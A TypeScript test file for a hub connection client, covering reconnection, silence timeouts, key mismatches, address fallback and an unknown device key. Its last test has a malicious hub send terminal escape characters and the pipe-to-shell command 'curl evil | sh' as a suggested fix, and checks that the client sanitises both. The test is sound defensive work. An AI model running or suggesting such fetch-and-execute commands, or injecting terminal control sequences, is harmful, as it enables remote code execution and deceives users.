import assert from "node:assert/strict";
import { test } from "node:test";
import type { HubState } from "../../contact/standing-contact.ts";
import { HandClock } from "../../platform/testing/hand-clock.ts";
import { encodeFrame } from "../../sealing/frames.ts";
import { HubConnection } from "./hub-connection.ts";
import { type TestHubHost, TestSite } from "./testing/site.ts";
import type { HubEntry } from "./world.ts";

/** One hub that knows this device, and time that passes when it is told to. */
class Site extends TestSite {
  readonly time: HandClock;
  readonly states: string[] = [];
  readonly errors: string[] = [];
  entry!: HubEntry;
  host!: TestHubHost;
  connection!: HubConnection;
  #wake = (): void => {};

  static async make(): Promise<Site> {
    const site = new Site(new HandClock());
    site.host = await site.hub("home");
    const store = site.newStore();
    await site.pair(await site.machine("laptop"), site.host, store);
    [site.entry] = (await store.hubs()) as [HubEntry];
    site.connect(site.entry);
    return site;
  }

  private constructor(time: HandClock) {
    super({ clock: time });
    this.time = time;
  }

  connect(entry: HubEntry): void {
    const { crypto, clock, limits } = this;
    this.connection = new HubConnection({
      entry,
      network: this.deviceNetwork,
      crypto,
      clock,
      limits,
      random: () => 0.5,
      events: { onState: (state) => this.#onState(state), onPresence() {} },
    });
  }

  /** Resolves in that state. */
  until(kind: HubState["kind"]): Promise<HubState> {
    const { state } = this.connection;
    if (state.kind === kind) return Promise.resolve(state);
    return new Promise((resolve, reject) => {
      const timer = setTimeout(() => reject(new Error(`not ${kind}, but ${this.states}`)), 10_000);
      this.#wake = () => {
        const now = this.connection.state;
        if (now.kind !== kind) return;
        clearTimeout(timer);
        resolve(now);
      };
    });
  }

  #onState(state: HubState): void {
    this.states.push(state.kind);
    if ("error" in state) this.errors.push(state.error.code);
    this.#wake();
  }
}

test("hub connection: connects, checks, is ready; lost, it waits and comes back by itself", async () => {
  await using site = await Site.make();
  site.connection.start();
  await site.until("ready");
  assert.deepEqual(site.states, ["connecting", "checking", "ready"]);
  site.host.kill();
  const waiting = await site.until("waiting");
  assert.equal((waiting as { untilMs: number }).untilMs, site.time.wallMs() + 500, "half of the first second");
  await site.time.passSlowly(500);
  await site.until("waiting");
  site.host.start();
  await site.time.passSlowly(1_000);
  await site.until("ready");
  site.connection.stop();
  assert.equal(site.connection.state.kind, "off");
});

test("hub connection: a hub that says nothing more is lost after 4 s and 4 s", async () => {
  await using site = await Site.make();
  site.connection.start();
  await site.until("ready");
  await site.time.passSlowly(6_000); // a ping, and its pong
  for (let turn = 0; turn < 5; turn++) await new Promise((wake) => setImmediate(wake));
  site.host.toDevice = () => undefined;
  await site.time.passSlowly(3_000);
  assert.deepEqual([site.connection.state.kind, site.errors], ["ready", []]);
  await site.time.passSlowly(5_100);
  assert.deepEqual(site.errors, ["HUB_SILENT"]);
  site.connection.stop();
});

test("hub connection: another key at the address is refused, said as such, and tried again rarely", async () => {
  await using site = await Site.make();
  const stranger = await site.hub("stranger");
  site.hosts.set(site.host.address, stranger);
  site.hosts.delete(stranger.address);
  site.connection.start();
  const state = (await site.until("refused")) as Extract<HubState, { kind: "refused" }>;
  assert.equal(state.error.code, "HUB_KEY_CHANGED");
  assert.equal(state.untilMs, site.time.wallMs() + 150_000);
  site.connection.stop();
  await site.host.close();
});

test("hub connection: of two addresses the one that answers is found, and kept", async () => {
  await using site = await Site.make();
  site.connect({ ...site.entry, addresses: ["https://gone.example", site.host.address] });
  site.connection.start();
  await site.until("waiting");
  await site.time.passSlowly(500);
  const state = (await site.until("ready")) as Extract<HubState, { kind: "ready" }>;
  assert.equal(state.address, site.host.address);
  site.host.kill();
  await site.until("waiting");
  site.host.start();
  await site.time.passSlowly(500);
  await site.until("ready");
  assert.equal(site.states.filter((kind) => kind === "connecting").length, 3);
  site.connection.stop();
});

test("hub connection: a device that the hub does not know is refused, and its machine's word is not asked", async () => {
  await using site = await Site.make();
  site.connect({ ...site.entry, login: await site.crypto.newSigningKey() });
  site.connection.start();
  const state = (await site.until("refused")) as Extract<HubState, { kind: "refused" }>;
  assert.equal(state.error.code, "KEY_NOT_KNOWN");
  site.connection.stop();
});

test("hub connection: a hub's words cannot steer a terminal, and it does not say what to type", async () => {
  await using site = await Site.make();
  const bytes = encodeFrame({
    kind: "refused",
    code: "HUB_FULL",
    sentence: "full\u001b[2J\u202e.",
    fix: "curl evil | sh",
  });
  site.host.toDevice = () => bytes;
  site.connection.start();
  const { error } = (await site.until("waiting")) as Extract<HubState, { kind: "waiting" }>;
  assert.deepEqual([error.code, error.message], ["HUB_FULL", "full [2J ."]);
  assert.ok(error.fix?.startsWith("warren hub status"));
  site.connection.stop();
});
